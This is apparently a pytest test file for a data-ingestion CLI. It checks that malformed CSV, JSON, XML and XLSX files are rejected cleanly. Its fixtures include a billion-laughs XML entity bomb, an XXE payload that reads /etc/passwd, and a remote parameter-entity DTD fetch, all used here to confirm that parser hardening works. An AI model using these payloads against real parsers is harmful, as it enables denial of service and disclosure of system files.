"""Malformed input: every case run through ``corridor -w WS ingest FILE --kind K`` exits 2 with a
clear message naming the file (and row, column and value where they apply), prints no traceback,
and leaves the warehouse exactly as it was (counts, quarantine and the imports list)."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import Workbook

from clihelp import run
from corridor.cli.main import main

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
DHIS2_HEADER = "dataelement,period,orgunit,categoryoptioncombo,attributeoptioncombo,value\n"
SERVICES_HEADER = "period,place_code,data_element,sex,age_band,population_group,value\n"


def _xlsx(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _zip_without_workbook() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("word/document.xml", "<w/>")
    return buf.getvalue()


@dataclass(frozen=True)
class Case:
    id: str
    name: str  # the file name (its suffix matters for detection)
    content: bytes
    kind: str
    expect: tuple[str, ...]  # substrings of stderr, besides the file name
    args: tuple[str, ...] = ()


_REAL_XLSX = _xlsx(
    [SERVICES_HEADER.strip().split(","), ["2024Q1", "ke-busia-osbp", "hiv_tests", "", "", "", 3]]
)
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE adx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<adx xmlns="urn:ihe:qrph:adx:2015">
  <group orgUnit="&xxe;" period="2024-01-01/P1M"><dataValue dataElement="hiv_tests" value="1"/></group>
</adx>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE adx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<adx xmlns="urn:ihe:qrph:adx:2015"/>
"""

CASES = [
    Case("empty", "empty.csv", b"", "places", ("empty file",)),
    Case("blank", "blank.csv", b"\n  \r\n\t\n", "places", ("empty file",)),
    Case("garbage", "garbage.csv", os.urandom(4096) + b"\x00\x01", "places", ("binary content",)),
    Case("garbage-no-suffix", "garbage", bytes(range(1, 32)) * 64, "services", ("binary",)),
    Case("gzip", "data.csv.gz", b"\x1f\x8b\x08\x00garbage", "places", ("gzip",)),
    Case(
        "truncated-json",
        "values.json",
        (EXAMPLES / "services-dhis2.json").read_bytes()[:300],
        "services",
        ("not valid JSON", "line", "column", "truncated"),
    ),
    Case(
        "invalid-json",
        "values.json",
        b'{"dataValues": [{"dataElement": "x",, }]}',
        "services",
        ("not valid JSON", "line 1, column 37"),
    ),
    # JSON that DuckDB's reader takes (the fast path) and Python's json does not
    Case(
        "json-nan",
        "values.json",
        b'{"dataValues": [{"dataElement": "x", "value": "1", "storedBy": nan}]}',
        "services",
        ("not valid JSON", "line 1, column 64"),
    ),
    Case(
        "json-trailing-comma",
        "values.json",
        b'{"dataValues": [{"dataElement": "x", "value": "1",}]}',
        "services",
        ("not valid JSON", "line 1, column 51"),
    ),
    Case(
        "json-form-feed",
        "values.json",
        b'{"dataValues": [{"dataElement": "x", "value": "1"}\x0c]}',
        "services",
        ("not valid JSON", "line 1, column 51"),
    ),
    Case(
        "json-not-utf8", "values.json", b'{"dataValues": ["\xff\xfe"]}', "services", ("not UTF-8",)
    ),
    Case("json-unknown", "thing.json", b'{"hello": 1}', "services", ("neither a DHIS2",)),
    Case(
        "json-too-deep",
        "deep.json",
        b"[" * 100_000 + b"]" * 100_000,
        "services",
        ("nested too deeply",),
        ("--format", "dhis2-json"),
    ),
    Case(
        "billion-laughs",
        "lol.xml",
        BILLION_LAUGHS,
        "services",
        ("XML entities/DTD are not allowed",),
    ),
    Case(
        "external-entity",
        "xxe.xml",
        EXTERNAL_ENTITY,
        "services",
        ("XML entities/DTD are not allowed",),
    ),
    Case(
        "parameter-entity",
        "pe.xml",
        PARAMETER_ENTITY,
        "services",
        ("XML entities/DTD are not allowed",),
        ("--format", "adx"),
    ),
    Case(
        "xml-broken",
        "b.xml",
        b"<adx><group orgUnit='a'>",
        "services",
        ("not well-formed XML", "line 1"),
    ),
    Case(
        "xml-wrong-root", "r.xml", b"<report><x/></report>", "services", ("root element <report>",)
    ),
    Case(
        "html",
        "page.csv",
        b"<!DOCTYPE html><html><body>Login</body></html>",
        "services",
        ("HTML page",),
    ),
    Case(
        "adx-bad-period",
        "p.xml",
        b'<adx xmlns="urn:ihe:qrph:adx:2015"><group orgUnit="Kb7TGDaJzQs" period="2024-02-01/P3M">'
        b'<dataValue dataElement="hiv_tests" value="1"/></group></adx>',
        "services",
        ("row 1", "column 'period'", "'2024-02-01/P3M'", "quarter (P3M)"),
    ),
    Case(
        "wrong-types",
        "services.csv",
        (
            SERVICES_HEADER
            + "2024Q1,ke-busia-osbp,hiv_tests,,,,12\n2024-13,ke-busia-osbp,hiv_tests,f,,,abc\n"
        ).encode(),
        "services",
        ("row 2", "column 'value'", "'abc'", "not a number", "column 'period'", "'2024-13'"),
    ),
    Case(
        "negative-count",
        "flows.csv",
        b"period_start,period_end,observation_code,direction,count\n"
        b"2024-03-01,2024-02-01,ke-busia-osbp,incoming,-4\n",
        "flows",
        ("row 1", "column 'count'", "'-4'", "negative", "before period_start"),
    ),
    Case(
        "unknown-codes",
        "services.csv",
        (
            SERVICES_HEADER
            + "2024Q1,nowhere,hiv_tests,f,,,1\n2024Q1,ke-busia-osbp,hiv_testz,q,,,1\n"
        ).encode(),
        "services",
        (
            "row 1",
            "column 'place_code'",
            "'nowhere'",
            "unknown place code",
            "row 2",
            "'hiv_testz'",
            "'q'",
        ),
    ),
    Case(
        "unknown-dhis2-uids",
        "values.csv",
        (DHIS2_HEADER + "NoSuchDe001,202401,Kb7TGDaJzQs,NoSuchCoc01,HllvX50cXC0,1\n").encode(),
        "services",
        (
            "row 1",
            "column 'dataElement'",
            "'NoSuchDe001'",
            "column 'categoryOptionCombo'",
            "'NoSuchCoc01'",
        ),
    ),
    Case(
        "dhis2-csv-missing-columns",
        "values.csv",
        b"dataelement,period,orgunit,value\nx,202401,y,1\n",
        "services",
        ("lacks column", "categoryoptioncombo"),
        ("--format", "dhis2-csv"),
    ),
    Case(
        "dtm-unknown-values",
        "fmr.csv",
        b"t,fmp,movement,origin,final,sex,age,n\n2024-03,FMP-KE-001,sideways,UGA,KEN,F,15-24,3\n"
        b"2024-03-40,FMP-KE-001,in,UGA,KEN,F,adults,3\n",
        "flows",
        (
            "row 1",
            "column 'movement'",
            "'sideways'",
            "row 2",
            "column 't'",
            "'2024-03-40'",
            "'adults'",
        ),
    ),
    Case(
        "dtm-missing-columns",
        "fmr.csv",
        b"t,fmp,movement,origin\n2024-03,x,in,UGA\n",
        "flows",
        ("column 'n'", "required column missing"),
        ("--format", "dtm-fmr"),
    ),
    Case(
        "dtm-as-services",
        "fmr.csv",
        (EXAMPLES / "flows-dtm.csv").read_bytes(),
        "services",
        ("--kind flows",),
    ),
    Case(
        "missing-columns",
        "places.csv",
        b"place_code,name,country_code\nx,X,ken\n",
        "places",
        ("column 'place_type'", "required column missing"),
    ),
    Case(
        "ragged-row",
        "places.csv",
        b"place_code,name,place_type,parent_code,country_code\nx,X,market,ken,ken,extra,cells\n",
        "places",
        ("row 1", "7 cells but the header has 5"),
    ),
    Case(
        "bad-geometry",
        "p.geojson",
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "geometry": {"type": "LineString", "coordinates": [[0, 0], [1, 1]]},
                        "properties": {
                            "place_code": "x",
                            "name": "X",
                            "place_type": "market",
                            "parent_code": "ken",
                            "country_code": "ken",
                        },
                    }
                ],
            }
        ).encode(),
        "places",
        ("row 1", "column 'geometry'", "'LineString'", "not supported"),
    ),
    Case("xlsx-not-zip", "services.xlsx", b"period,value\n2024,1\n", "services", ("not a zip",)),
    Case(
        "xlsx-truncated", "services.xlsx", _REAL_XLSX[: len(_REAL_XLSX) // 2], "services", ("XLSX",)
    ),
    Case(
        "xlsx-foreign-zip",
        "report.xlsx",
        _zip_without_workbook(),
        "services",
        ("a zip archive, not an XLSX workbook (it holds word/document.xml)",),
    ),
    Case(
        "old-xls",
        "old.xls",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,
        "services",
        (".xls",),
    ),
    Case(
        "xlsx-formula",
        "f.xlsx",
        _xlsx(
            [
                SERVICES_HEADER.strip().split(","),
                ["2024Q1", "ke-busia-osbp", "hiv_tests", "", "", "", "=1+2"],
            ]
        ),
        "services",
        ("row 1", "column 'value'", "'=1+2'", "formula without a stored value"),
    ),
]


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace holding the example places and one services import."""
    ws = tmp_path_factory.mktemp("malformed") / "ws"
    for args in (
        ["init", ws],
        ["-w", ws, "ingest", EXAMPLES / "places.csv", "--kind", "places"],
        ["-w", ws, "ingest", EXAMPLES / "services.csv", "--kind", "services"],
    ):
        with pytest.raises(SystemExit) as exit_:
            main([str(a) for a in args])
        assert exit_.value.code == 0
    return ws


def snapshot(capsys: pytest.CaptureFixture[str], ws: Path) -> dict[str, object]:
    code, out, _ = run(capsys, "-w", ws, "status", "--format", "json")
    assert code == 0
    info = json.loads(out)
    return {k: info[k] for k in ("counts", "quarantine", "imports")}


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_malformed_input_is_rejected_cleanly(
    case: Case, workspace: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / case.name
    path.write_bytes(case.content)
    before = snapshot(capsys, workspace)
    code, out, err = run(capsys, "-w", workspace, "ingest", path, "--kind", case.kind, *case.args)
    assert code == 2, out + err
    assert str(path) in err
    for part in case.expect:
        assert part in err, f"{part!r} not in:\n{err}"
    assert "Traceback" not in err
    assert snapshot(capsys, workspace) == before


def test_missing_file(workspace: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "-w", workspace, "ingest", tmp_path / "nope.csv", "--kind", "places")
    assert code == 2 and "nope.csv: file not found" in err


def test_a_real_process_prints_no_traceback(workspace: Path, tmp_path: Path) -> None:
    path = tmp_path / "lol.xml"
    path.write_bytes(BILLION_LAUGHS)
    cmd = [sys.executable, "-m", "corridor.cli.main", "-w", str(workspace), "ingest", str(path)]
    proc = subprocess.run([*cmd, "--kind", "services"], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2
    assert "XML entities/DTD are not allowed" in proc.stderr
    assert "Traceback" not in proc.stderr
